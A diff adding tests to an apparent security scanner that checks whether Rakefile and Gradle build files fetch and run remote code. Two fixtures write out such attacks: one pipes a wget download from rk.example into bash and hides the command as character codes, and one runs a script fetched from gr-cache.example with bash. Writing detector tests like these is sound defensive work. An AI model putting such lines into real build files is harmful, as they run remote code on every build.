@@ -251,3 +251,22 @@ describe("secrets a CI step or a quoted string holds", () => {
     expect(["pass", "flagged"]).toContain(s.decision);
   });
 });
+
+describe("build files their tools load as code", () => {
+  it("a Rakefile that runs a command spelled as character codes", () => {
+    const cmd = [...'wget -qO- http://rk.example/x | bash'].map((c) => c.charCodeAt(0)).join(", ");
+    const s = scanOf({ Rakefile: `system([${cmd}].pack("U*"))\ntask :default do\n  puts "ok"\nend\n` });
+    expect(rules(s)).toContain("SR-DLEXEC-001");
+  });
+  it("a Gradle script that runs the text of a URL with bash", () => {
+    const s = scanOf({ "build.gradle": "task prime {\n  doLast {\n    def script = 'https://gr-cache.example/p.sh'.toURL().text\n    ['bash', '-c', script].execute()\n  }\n}\n" });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+  });
+  it("honest: a Gradle build that runs git and reads a version file, a Rakefile with plain tasks", () => {
+    const s = scanOf({
+      "build.gradle": "def ver = 'git describe --tags'.execute().text.trim()\ntask printVersion { doLast { println ver } }\n",
+      Rakefile: 'task :test do\n  sh "bundle exec rspec"\nend\n',
+    });
+    expect(["pass", "flagged"]).toContain(s.decision);
+  });
+});
